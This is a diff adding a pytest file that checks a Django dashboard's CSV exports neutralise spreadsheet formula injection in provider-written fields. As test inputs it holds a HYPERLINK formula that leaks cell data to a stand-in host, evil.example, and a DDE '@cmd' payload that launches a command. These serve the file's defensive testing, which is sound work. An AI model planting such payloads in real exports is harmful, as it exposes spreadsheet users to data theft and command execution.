@@ -1,0 +1,75 @@
+"""CSV exports are safe to open in a spreadsheet: no cell a provider wrote runs as a formula."""
+
+import csv
+import io
+import json
+from decimal import Decimal
+
+import pytest
+from django.contrib.auth.models import Group, User
+from django.test import Client
+
+from deliveries.csv_export import csv_cell
+
+from ..helpers import fixture_bytes
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [FORMULA, "+919876543210", "+91 98••••3210", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
+)
+def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted(text):
+    assert csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "value", ["JIO", "", "0.9342", "order_ORD2847", " =1", -5, -1.5, Decimal("-2.5"), 0, None]
+)
+def test_other_text_and_real_numbers_are_written_as_they_are(value):
+    # Numbers are ours (counts, rates, latencies): a negative one is still a number.
+    assert csv_cell(value) == value
+
+
+@pytest.fixture
+def hostile_message(post_smstake) -> None:
+    """A genuine, signed SMSTAKE report whose provider-written fields hold formulas."""
+    body = json.loads(fixture_bytes("smstake", "failed.json"))
+    body |= {"operator": FORMULA, "error_code": "-1+1", "client_ref": "@cmd|' /c calc'!A0"}
+    assert post_smstake(json.dumps(body).encode()).status_code == 200
+
+
+def rows_of(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+@pytest.fixture
+def manager() -> Client:
+    user = User.objects.create_user("meera", password="x", is_staff=True)
+    user.groups.add(Group.objects.get(name="Campaign manager"))
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def test_the_message_export_quotes_every_cell_that_starts_like_a_formula(
+    db, hostile_message, manager
+):
+    header, row = rows_of(manager.get("/dashboard/export/messages.csv"))
+    cell = dict(zip(header, row, strict=True))
+
+    assert cell["operator"] == "'" + FORMULA
+    assert cell["error_code"] == "'-1+1"
+    assert cell["client_ref"] == "'@cmd|' /c calc'!A0"
+    assert cell["to"] == "'+91 98••••3210"  # masked numbers start with "+" too
+    assert cell["id"].isdigit()
+
+
+def test_the_breakdown_export_quotes_a_formula_in_a_group_name(db, hostile_message, manager):
+    window = {"range": "custom", "since": "2026-06-29T00:00", "until": "2026-07-01T00:00"}
+    header, *groups = rows_of(manager.get("/dashboard/export/operator.csv", window))
+
+    assert [(row[0], row[1]) for row in groups] == [("'" + FORMULA, "'" + FORMULA)]
+    assert groups[0][header.index("sent")] == "1"  # counts stay numbers
